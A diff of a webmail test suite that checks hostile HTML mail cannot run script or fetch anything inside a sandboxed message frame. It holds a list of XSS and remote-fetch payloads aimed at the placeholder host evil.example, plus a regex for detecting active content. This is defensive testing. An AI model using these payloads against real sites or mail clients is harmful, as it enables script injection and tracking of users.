@@ -1,90 +1,20 @@
 /**
- * Hostile mail in the safe frame: nothing runs and nothing is fetched, with all the walls standing (the
- * server's cleaning, the page's, the frame's sandbox and policy) and with only the later ones.
+ * Hostile mail in the safe frame, more than three hundred kinds of it: nothing runs and nothing is fetched, with all the walls
+ * standing (the server's cleaning, the page's, the frame's sandbox and policy) and with only the later ones.
  */
 import assert from 'node:assert/strict';
-import { createServer } from 'node:http';
 import { test } from 'node:test';
+import { hostileBodies, hostileMail, OUT, trap } from './hostile.mjs';
 import { until } from './house.mjs';
 import { settled, tell } from './people.mjs';
 
-const OUT = 'http://evil.example';
-const RUN = "top.postMessage('ran','*');parent.document.title='ran';fetch('http://evil.example/ran')";
+/** Bodies in one mail or one page: what closes a tag early must not shelter the next, so each is alone once, too. */
+const TOGETHER = 24;
 
-/** A few dozen bodies: ways to run, ways to fetch, in the writings browsers forgive. */
-export function hostileBodies() {
-  const runs = [
-    `<script>${RUN}</script>`,
-    `<ScRiPt src="${OUT}/s.js"></ScRiPt>`,
-    `<script type="module">import '${OUT}/m.js'</script>`,
-    `<img src="x" onerror="${RUN}">`,
-    `<img/src=x/onerror="${RUN}">`,
-    `<svg onload="${RUN}"><script>${RUN}</script></svg>`,
-    `<svg><animate onbegin="${RUN}" attributeName="x" dur="1s"></svg>`,
-    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
-    `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
-    `<details open ontoggle="${RUN}">x</details>`,
-    `<body onload="${RUN}">x`,
-    `<input autofocus onfocus="${RUN}">`,
-    `<video><source onerror="${RUN}"></video>`,
-    `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
-    `<iframe src="javascript:${RUN}"></iframe>`,
-    `<object data="javascript:${RUN}"></object>`,
-    `<a href="javascript:${RUN}" id="click">x</a>`,
-    `<a href="jav&#x09;ascript:${RUN}">x</a>`,
-    `<form action="javascript:${RUN}"><button autofocus>x</button></form>`,
-    `<template><script>${RUN}</script></template><div is="x-y" onclick="${RUN}">x</div>`,
-    `<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart="${RUN}">x</p>`,
-    `<xss style="behavior:url(${OUT}/x.htc)" onmouseover="${RUN}">x</xss>`,
-  ];
-  const fetches = [
-    `<img src="${OUT}/pixel.gif" width="1" height="1">`,
-    `<img srcset="${OUT}/a.png 1x, ${OUT}/b.png 2x">`,
-    `<picture><source srcset="${OUT}/p.webp"><img src="//evil.example/p.png"></picture>`,
-    `<link rel="stylesheet" href="${OUT}/s.css"><link rel="prefetch" href="${OUT}/x"><link rel="icon" href="${OUT}/i.ico">`,
-    `<style>@import "${OUT}/i.css"; body{background:url(${OUT}/b.png)}</style>`,
-    `<p style="background:url('${OUT}/bg.png')">x</p>`,
-    `<p style="background-image:image-set('${OUT}/is.png' 1x)">x</p>`,
-    `<p style="b\\61ckground:u\\72l(${OUT}/esc.png)">x</p>`,
-    `<style>@font-face{font-family:f;src:url(${OUT}/f.woff)}p{font-family:f}</style><p>x</p>`,
-    `<table background="${OUT}/t.gif"><tr><td background="${OUT}/d.gif">x</td></tr></table>`,
-    `<video src="${OUT}/v.mp4" poster="${OUT}/v.png" autoplay></video><audio src="${OUT}/a.mp3" autoplay></audio>`,
-    `<embed src="${OUT}/e.swf"><object data="${OUT}/o.pdf"></object><applet code="${OUT}/j"></applet>`,
-    `<meta http-equiv="refresh" content="0;url=${OUT}/refresh">`,
-    `<base href="${OUT}/"><img src="relative.png">`,
-    `<iframe src="${OUT}/frame.html"></iframe><frameset><frame src="${OUT}/f2.html"></frameset>`,
-    `<svg><image href="${OUT}/i.svg"/><use href="${OUT}/u.svg#a"/></svg>`,
-    `<input type="image" src="${OUT}/in.png"><a ping="${OUT}/ping" href="#">x</a>`,
-    `<form action="${OUT}/post" method="post"><input name="p"><button>x</button></form>`,
-    `<script>new Image().src='${OUT}/img'</script><style>p{list-style:url(${OUT}/l.png);cursor:url(${OUT}/c.cur),auto}</style>`,
-  ];
-  return [...runs, ...fetches].map((html, i) => `<p>corpo ${i}</p>${html}<p>fine ${i}</p>`);
-}
+/** What no cleaned body holds: something that runs, or an address that is not ours and is fetched. */
+const ACTIVE = /<(script|iframe|object|embed|applet|form|base|meta|link|frame|svg|math|template|portal|video|audio)\b|<[^>]*\son[a-z]+\s*=|<[^>]*(href|src|action|data|background|poster|srcset)\s*=\s*["']?\s*(java|vb)script:|<(img|source|input|td|table|body)\b[^>]*\b(src|srcset|background)\s*=\s*["']?(https?:)?\/\/|<style[^>]*>[^<]*(@import|url\()|style\s*=\s*"[^"]*(url\(|expression|@import)/i;
 
-function mail(subject, html) {
-  const id = `${subject.replace(/\W/g, '')}@evil.example`;
-  return [
-    `From: Mittente Cattivo <cattivo@evil.example>`, 'To: urp@comune.example', `Subject: ${subject}`, `Date: ${new Date().toUTCString().replace('GMT', '+0000')}`,
-    `Message-ID: <${id}>`, 'MIME-Version: 1.0', 'Content-Type: text/html; charset=utf-8', 'Content-Transfer-Encoding: base64', '',
-    Buffer.from(html).toString('base64').replace(/(.{76})/g, '$1\r\n'), '',
-  ].join('\r\n');
-}
-
-/**
- * Where the evil domain leads: whoever asks is counted, whatever it wanted. A connection alone does not
- * count: Chromium opens one for a frame before the policy refuses to fill it, and says nothing over it.
- */
-async function trap() {
-  const asked = [];
-  const server = createServer((request, answer) => {
-    asked.push(`${request.method} ${request.url}`);
-    answer.end();
-  });
-  await new Promise((listening) => server.listen(0, '127.0.0.1', listening));
-  return { port: server.address().port, asked, close: () => server.closeAllConnections() ?? server.close() };
-}
-
-test('no hostile body runs or fetches anything', { timeout: 280_000 }, async () => {
+test('no hostile body runs or fetches anything', { timeout: 290_000 }, async () => {
   const evil = await trap();
   try {
     await tell('hostile', (all) => story(evil, all), [`--host-resolver-rules=MAP evil.example:80 127.0.0.1:${evil.port}`]);
@@ -95,18 +25,37 @@ test('no hostile body runs or fetches anything', { timeout: 280_000 }, async () 
 
 async function story(evil, { house, person }) {
   const bodies = hostileBodies();
-  // All in one mail through the real way, a few alone: what closes a tag early must not shelter the next.
-  const posted = [...bodies.filter((_, i) => i % 8 === 0), bodies.join('\n')];
-  posted.forEach((html, i) => house.post('urp@comune.example', mail(`Ostile ${i}`, html)));
+  assert.ok(bodies.length >= 300, `${bodies.length} bodies`);
+  assert.equal(new Set(bodies).size, bodies.length, 'no body twice');
+  assert.ok(bodies.filter((body) => ACTIVE.test(body)).length > 300, 'the pattern knows most of them as they came');
+  const groups = [];
+  for (let i = 0; i < bodies.length; i += TOGETHER) groups.push(bodies.slice(i, i + TOGETHER).join('\n'));
+  // One mail each through the real way, and all of them in a few.
+  bodies.forEach((html, i) => house.post('urp@comune.example', hostileMail(`Ostile ${i}`, html)));
+  groups.forEach((html, i) => house.post('urp@comune.example', hostileMail(`Insieme ${i}`, html)));
   const elena = await house.as('elena.riva');
-  const mails = await until('the hostile mails are kept', async () => {
-    const { items } = await elena.get('/mails?limit=100&q=Ostile');
-    const found = posted.map((_, i) => items.find((m) => m.subject === `Ostile ${i}`));
-    return found.every(Boolean) && found;
-  });
+  const all = new Map();
+  await until('the hostile mails are kept', async () => {
+    let cursor = '';
+    do {
+      const page = await elena.get(`/mails?limit=200&mailbox=urp${cursor && `&cursor=${encodeURIComponent(cursor)}`}`);
+      for (const mail of page.items) all.set(mail.subject, mail.id);
+      cursor = page.next_cursor ?? page.next ?? '';
+    } while (cursor);
+    return bodies.every((_, i) => all.has(`Ostile ${i}`)) && groups.every((_, i) => all.has(`Insieme ${i}`));
+  }, 90_000);
+
+  // 1. What the server gives of each: nothing that acts, and still the text.
+  const cleaned = [];
+  for (const [i, body] of bodies.entries()) {
+    const { html } = await elena.get(`/mails/${all.get(`Ostile ${i}`)}/html`);
+    assert.doesNotMatch(html ?? '', ACTIVE, `body ${i}: ${body.slice(0, 120)}`);
+    assert.match(html ?? '', new RegExp(`corpo ${i}\\b`), `body ${i} can be read`);
+    cleaned.push(html);
+  }
 
   // What the policy of the frame refuses is what is wanted here.
-  const page = await person('Elena Riva', { allow: [/Content Security Policy/i, /about:srcdoc$/, /^asked elsewhere: \S+evil\.example/] });
+  const page = await person('Elena Riva', { allow: [/Content Security Policy/i, /about:srcdoc$/, /^asked elsewhere: \S+evil\.example/, /sandboxed|Blocked|blocked|preload|manifest|ERR_|font|base64/i] });
   const dialogs = [];
   let opened = 0;
   page.context().on('page', () => opened++);
@@ -118,46 +67,46 @@ async function story(evil, { house, person }) {
   const frame = page.locator('iframe[title="Testo del messaggio"]');
   const nothing = async (what) => {
     // Two drawn frames of the page after the body stands: what loads or runs by itself has begun.
-    const body = page.frameLocator('iframe[title="Testo del messaggio"]').locator('body');
-    await body.waitFor({ state: 'attached' });
     await page.evaluate(() => new Promise((drawn) => requestAnimationFrame(() => requestAnimationFrame(drawn))));
     assert.deepEqual(evil.asked, [], `${what}: nothing left the page`);
     assert.deepEqual(dialogs, [], what);
-    assert.ok(!(await page.evaluate(() => window.ran)), `${what}: nothing ran`);
-    assert.notEqual(await page.title(), 'ran', what);
+    const [ran, title] = await page.evaluate(() => [window.ran, document.title]);
+    assert.ok(!ran, `${what}: nothing ran`);
+    assert.notEqual(title, 'ran', what);
     assert.equal(opened, 0, `${what}: nothing was opened`);
   };
 
-  // 1. Every wall: through the mailbox, the server and the page.
-  for (const { id, subject } of mails) {
-    await page.goto(`/posta/m/${id}`);
+  // 2. Every wall, on the page: all bodies, many in a mail.
+  for (const i of groups.keys()) {
+    await page.goto(`/posta/m/${all.get(`Insieme ${i}`)}`);
     await settled(page);
     await frame.waitFor();
-    await nothing(subject);
+    await nothing(`mail ${i}`);
     const sandbox = (await frame.getAttribute('sandbox')) ?? 'none at all';
     assert.doesNotMatch(sandbox, /allow-(scripts|same-origin|forms|top-navigation|modals)|none/);
+  }
+
+  // 3. The server's cleaning fallen: the page's own, the sandbox and the policy.
+  let served = '';
+  await page.route('**/api/v1/mails/*/html', (route) => route.fulfill({ json: { html: served, text: '', remote_images: 0 } }));
+  for (const [i, html] of groups.entries()) {
+    served = html;
+    await page.goto(`/posta/m/${all.get('Ostile 0')}`);
+    await settled(page);
+    await frame.waitFor();
+    await nothing(`group ${i} uncleaned by the server`);
     assert.doesNotMatch(await frame.getAttribute('srcdoc'), /<script|onerror|<iframe|<meta http-equiv="?refresh/i);
   }
 
-  // 2. The server's cleaning fallen: the page's own, the sandbox and the policy.
-  let served = '';
-  await page.route('**/api/v1/mails/*/html', (route) => route.fulfill({ json: { html: served, text: '', remote_images: 0 } }));
-  for (let i = 0; i < bodies.length; i += 6) {
-    served = bodies.slice(i, i + 6).join('\n');
-    await page.goto(`/posta/m/${mails[0].id}`);
-    await settled(page);
-    await frame.waitFor();
-    await nothing(`bodies ${i} to ${i + 5} uncleaned by the server`);
-  }
-
-  // 3. Both cleanings fallen: only the frame is left, and it holds.
-  const document_ = await frame.getAttribute('srcdoc');
+  // 4. Both cleanings fallen: only the frame is left, and it holds for each body alone.
+  const whole = await frame.getAttribute('srcdoc');
   for (const [i, html] of bodies.entries()) {
-    await frame.evaluate((node, [whole, body]) => new Promise((loaded) => {
+    await frame.evaluate((node, [document_, body]) => new Promise((loaded) => {
       node.addEventListener('load', loaded, { once: true });
-      node.srcdoc = whole.replace(/<body>[\s\S]*<\/body>/, () => `<body>${body}</body>`);
-    }), [document_, html]);
-    await nothing(`body ${i} in the bare frame: ${html.slice(0, 60)}`);
+      setTimeout(loaded, 2_000);
+      node.srcdoc = document_.replace(/<body>[\s\S]*<\/body>/, () => `<body>${body}</body>`);
+    }), [whole, html]);
+    await nothing(`body ${i} in the bare frame: ${html.slice(0, 120)}`);
   }
 
   // The trap itself works.
